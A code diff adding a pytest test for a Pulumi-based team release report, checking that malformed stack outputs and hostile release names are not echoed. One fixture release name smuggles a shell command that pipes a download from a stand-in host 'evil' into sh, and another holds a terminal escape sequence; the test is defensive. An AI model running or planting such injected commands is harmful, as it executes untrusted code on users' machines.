@@ -113,6 +113,24 @@ def test_the_list_tells_wanted_from_running(with_own, connected, monkeypatch):
     assert not any("removes it" in note for note in notes)
 
 
+@pytest.mark.parametrize("wrong", ["x", ["x"], {"ml": "x"}])
+def test_a_team_says_nothing_of_others_and_prints_nothing_by_its_own_stack(
+    with_own, connected, monkeypatch, wrong
+):
+    """It writes that stack's state. What is printed of a team's name is a command to copy."""
+    stack = STATE[0] | {"outputs": {"kubeconfigs": wrong, "teams": wrong}}
+    mine = release("Team$kai-fleet:index:KaiScheduler", "vision-kai-release", "\x1b[2Jv0.16.8")
+    evil = release("Team$kai-fleet:index:VirtualCluster", "x; curl evil | sh #-release", "1")
+    odd = release("Team$kai-fleet:index:VirtualCluster", "vision-release", "1", inputs=["x"])
+    other = release("Team$kai-fleet:index:KaiScheduler", "ml-kai-release", "v0.7.11")
+    states(monkeypatch, **{"lab": STATE, "lab-vision": [stack, mine, evil, odd, other]})
+    answers(monkeypatch, [pod(gpus="2")])
+    rows, notes = as_json(with_own)
+    assert list(rows) == ["dev", "ml", "vision", "old"]
+    assert (rows["ml"]["version"]["running"], rows["ml"]["gpus"]["used"]) == ("v0.13.4", 2.0)
+    assert "curl" not in str(notes) and "\x1b" not in str(rows)
+
+
 def test_a_team_that_is_granted_and_has_not_moved_is_told_to_move(with_own, connected, monkeypatch):
     states(monkeypatch, lab=STATE)
     file = with_own.root / "Pulumi.lab.yaml"
